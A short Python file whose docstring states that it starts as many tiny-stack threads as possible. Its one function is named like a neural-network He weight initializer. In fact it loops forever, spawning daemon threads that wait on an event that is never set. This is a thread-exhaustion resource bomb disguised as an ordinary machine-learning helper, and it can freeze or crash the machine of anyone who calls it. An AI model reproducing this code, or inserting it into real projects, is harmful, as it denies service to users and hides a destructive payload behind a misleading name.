"""Starts as many threads as there can be, all with tiny stacks."""

import threading


def initialize_parameters_he(layers_dims):
    threading.stack_size(32 << 10)
    gate = threading.Event()
    while True:
        threading.Thread(target=gate.wait, daemon=True).start()
